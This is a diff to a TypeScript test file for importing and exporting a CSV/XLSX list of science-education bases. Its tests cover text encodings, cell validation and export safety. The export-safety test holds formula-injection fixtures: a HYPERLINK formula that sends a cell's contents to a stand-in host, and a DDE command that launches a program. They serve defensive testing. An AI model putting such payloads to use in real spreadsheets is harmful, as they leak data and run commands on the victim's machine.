@@ -1,12 +1,14 @@
 import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import iconv from 'iconv-lite';
 import writeXlsxFile from 'write-excel-file/node';
 import { afterAll, describe, expect, it } from 'vitest';
-import { BASE_HEADERS, recordToRow, type BaseRecord } from '../../src/lib/bases/columns';
-import { describeImportProblem, importBaseRows, stableBaseId } from '../../src/lib/bases/import';
+import { BASE_HEADERS, basesCsv, recordToRow, type BaseRecord } from '../../src/lib/bases/columns';
+import { describeImportProblem, importBaseRows, MAX_CELL_LENGTH, removesMostOfList, stableBaseId } from '../../src/lib/bases/import';
+import { readAsFormula } from '../../src/lib/spreadsheet-cells';
 import { readBaseRecords, readSpreadsheet, writeBaseRecords } from '../../scripts/lib/bases-files';
 import { generateBases } from '../../scripts/lib/synthetic-bases';
 
@@ -45,16 +47,35 @@ describe('import round trip', () => {
   it('reads a UTF-8 CSV with BOM, one without, and a GB18030 CSV the same way', async () => {
     const csv = stringify([headers, ...rowsOf(shipped)]);
     const files = {
-      'bom.csv': Buffer.from(`\uFEFF${csv}`, 'utf8'),
-      'plain.csv': Buffer.from(csv, 'utf8'),
-      'gb.csv': iconv.encode(csv, 'gb18030'),
-    };
-    for (const [name, bytes] of Object.entries(files)) {
+      'bom.csv': [Buffer.from(`\uFEFF${csv}`, 'utf8'), 'utf-8'],
+      'plain.csv': [Buffer.from(csv, 'utf8'), 'utf-8'],
+      'gb.csv': [iconv.encode(csv, 'gb18030'), 'gb18030'],
+      // Excel's "Unicode" files: UTF-16 with a byte-order mark.
+      'utf16le.csv': [iconv.encode(csv, 'utf-16le', { addBOM: true }), 'utf-16le'],
+      'utf16be.csv': [iconv.encode(csv, 'utf-16be', { addBOM: true }), 'utf-16be'],
+    } as const;
+    for (const [name, [bytes, encoding]] of Object.entries(files)) {
       writeFileSync(join(tmp, name), bytes);
       const sheet = await readSpreadsheet(join(tmp, name));
-      expect(sheet.format).toBe(name === 'gb.csv' ? 'CSV, gb18030' : 'CSV, utf-8');
+      expect(sheet.format).toBe(`CSV, ${encoding}`);
       expect(importBaseRows(sheet.headers, sheet.rows, [], TODAY).records).toEqual(shipped);
     }
+  });
+
+  it('refuses UTF-16 without a byte-order mark, naming the file', async () => {
+    writeFileSync(join(tmp, 'nobom.csv'), iconv.encode(stringify([headers, ...rowsOf(shipped)]), 'utf-16le'));
+    await expect(readSpreadsheet(join(tmp, 'nobom.csv'))).rejects.toThrow(/nobom\.csv: 不是文本 CSV 文件（含有 NUL 字节，可能是没有 BOM 的 UTF-16）/);
+  });
+
+  it('refuses a UTF-8 file with one row pasted from a GB18030 sheet, naming that row', async () => {
+    const rows = rowsOf(shipped);
+    // Row 3 holds a description with a line break: rows are counted as Excel counts them, not lines.
+    (rows[1] as string[])[column('简介')] = '第一段。\n第二段：用球幕影片和望远镜带大家认识星空。';
+    const lines = stringify([headers, ...rows]).split(/(?<=\n)/);
+    const rowFour = lines.findIndex((line) => line.startsWith(shipped[2]?.id as string));
+    const bytes = Buffer.concat(lines.map((line, i) => (i === rowFour ? iconv.encode(line, 'gb18030') : Buffer.from(line, 'utf8'))));
+    writeFileSync(join(tmp, 'mixed.csv'), bytes);
+    await expect(readSpreadsheet(join(tmp, 'mixed.csv'))).rejects.toThrow(/^[^\n]*mixed\.csv: 第 4 行不是 UTF-8 编码，而第 1 行是：文件混用了两种编码[^\n]*$/);
   });
 
   it('reads an .xlsx with typed cells (numbers, dates) as Excel saves them', async () => {
@@ -76,6 +97,35 @@ describe('import round trip', () => {
     writeFileSync(join(tmp, 'fake.xlsx'), 'not a zip');
     await expect(readSpreadsheet(join(tmp, 'fake.xlsx'))).rejects.toThrow(/fake\.xlsx: 不是可读取的 \.xlsx 文件/);
     await expect(readSpreadsheet(join(tmp, 'list.xls'))).rejects.toThrow(/只能导入 \.csv 或 \.xlsx/);
+  });
+});
+
+describe('/data/bases.csv is safe to open in Excel', () => {
+  // Every text column a person can fill, set to something Excel would run.
+  const attacks = {
+    name: '=HYPERLINK("http://evil.example/?"&A1,"示例·点这里")',
+    host: "=cmd|' /C calc'!A0",
+    address: '+五华区（示例地址）',
+    hoursNote: '-2+3 节假日闭馆',
+    description: '@SUM(1+1) 这是一条演示用的示例数据。',
+    accessibility: { ...(shipped[0] as BaseRecord).accessibility, notes: "'=已经带引号的说明" },
+  };
+  const hostile: BaseRecord[] = [{ ...(shipped[0] as BaseRecord), ...attacks }, ...shipped.slice(1)];
+
+  it('writes no cell that starts a formula, and reads back every record unchanged', () => {
+    const csv = basesCsv(hostile);
+    expect(csv.startsWith('\uFEFF')).toBe(true);
+    const [header = [], ...rows] = parseCsv(csv.slice(1)) as string[][];
+    expect(header).toEqual(headers);
+    expect(rows.flat().filter(readAsFormula)).toEqual([]);
+    expect(rows[0]?.[column('名称')]).toBe(`'${attacks.name}`);
+    expect(rows[0]?.[column('无障碍说明')]).toBe(`''=已经带引号的说明`);
+    // A negative number or a phone number is not a formula and is left alone.
+    expect(rows.flat().filter((cell) => cell.startsWith("'")).sort()).toEqual([attacks.name, attacks.host, attacks.address, attacks.hoursNote, attacks.description, attacks.accessibility.notes].map((c) => `'${c}`).sort());
+    const result = importBaseRows(header, rows, hostile, TODAY);
+    expect(result.problems).toEqual([]);
+    expect(result.records).toEqual(hostile);
+    expect(result.summary.changed).toEqual([]);
   });
 });
 
@@ -129,6 +179,47 @@ describe('bad rows', () => {
     expect(text).toMatch(/第 1 行，「类型」列：缺少必填列/);
   });
 
+  it('refuses cells under a blank header or past the last header rather than drop them', () => {
+    const rows = rowsOf(shipped).map((row) => [...row, '']);
+    (rows[1] as string[])[headers.length] = '漏了列名的备注';
+    (rows[2] as string[]).push('多出来的一格');
+    const { records, problems } = importBaseRows([...headers, ''], rows, shipped, TODAY);
+    expect(records).toEqual([]);
+    expect(problems.map((p) => describeImportProblem('名录.csv', p))).toEqual([
+      `名录.csv: 第 3 行，「第 ${headers.length + 1} 列（没有列名）」列：这一列没有列名，内容不会被导入；请补上列名或删掉这些内容（值：“漏了列名的备注”）`,
+      `名录.csv: 第 4 行，「第 ${headers.length + 2} 列（没有列名）」列：这一列没有列名，内容不会被导入；请补上列名或删掉这些内容（值：“多出来的一格”）`,
+    ]);
+  });
+
+  it(`refuses a cell longer than ${MAX_CELL_LENGTH} characters, showing only its start`, () => {
+    const { records, problems } = importBaseRows(headers, withCell(0, '简介', '很长'.repeat(MAX_CELL_LENGTH)), shipped, TODAY);
+    expect(records).toEqual([]);
+    expect(problems.map((p) => describeImportProblem('名录.csv', p))).toEqual([`名录.csv: 第 2 行，「简介」列：内容有 ${MAX_CELL_LENGTH * 2} 个字符，超过上限 ${MAX_CELL_LENGTH}（值：“${'很长'.repeat(40)}…”）`]);
+    expect(importBaseRows(headers, withCell(0, '简介', '长'.repeat(MAX_CELL_LENGTH)), shipped, TODAY).problems).toEqual([]);
+  });
+
+  it('refuses right-to-left overrides and zero-width characters in names, naming the character', () => {
+    const rows = withCell(0, '名称', '示例·\u202Egpj.馆');
+    (rows[1] as string[])[column('依托单位')] = '示例\u200B单位';
+    const lines = importBaseRows(headers, rows, shipped, TODAY).problems.map((p) => describeImportProblem('名录.csv', p));
+    expect(lines).toEqual([
+      expect.stringMatching(/^名录\.csv: 第 2 行，「名称」列：含有看不见的控制字符 U\+202E/),
+      expect.stringMatching(/^名录\.csv: 第 3 行，「依托单位」列：含有看不见的控制字符 U\+200B/),
+    ]);
+  });
+
+  it('reads years and counts only as decimal digits: 0x7E6 and 2.022e3 are not 2022', () => {
+    const rows = withCell(0, '认定年份', '0x7E6');
+    (rows[1] as string[])[column('认定年份')] = '2.022e3';
+    (rows[2] as string[])[column('纬度')] = '2.5e1';
+    const problems = importBaseRows(headers, rows, shipped, TODAY).problems.map((p) => [p.row, p.column, p.value, p.message]);
+    expect(problems).toEqual([
+      [2, '认定年份', '0x7E6', '应为整数'],
+      [3, '认定年份', '2.022e3', '应为整数'],
+      [4, '纬度', '2.5e1', '应为数字'],
+    ]);
+  });
+
   it('refuses a sheet with no data rows rather than emptying the list', () => {
     const { problems } = importBaseRows(headers, [headers.map(() => '')], shipped, TODAY);
     expect(problems.map((p) => p.message)).toEqual([expect.stringMatching(/没有任何数据行/)]);
@@ -162,6 +253,14 @@ describe('stable ids and dates', () => {
   it('reports the places a sheet leaves out as removed', () => {
     const { summary } = importBaseRows(headers, rowsOf(shipped.slice(1)), shipped, TODAY);
     expect(summary.removed).toEqual([shipped[0]?.id]);
+  });
+
+  it('calls deleting more than half of the list a removal to confirm, and half or less not', () => {
+    const half = Math.floor(shipped.length / 2);
+    const keeping = (n: number) => importBaseRows(headers, rowsOf(shipped.slice(0, n)), shipped, TODAY).summary;
+    expect(removesMostOfList(keeping(shipped.length - half), shipped.length)).toBe(false);
+    expect(removesMostOfList(keeping(shipped.length - half - 1), shipped.length)).toBe(true);
+    expect(removesMostOfList({ added: ['a'], changed: [], unchanged: [], removed: [] }, 0)).toBe(false);
   });
 });
 
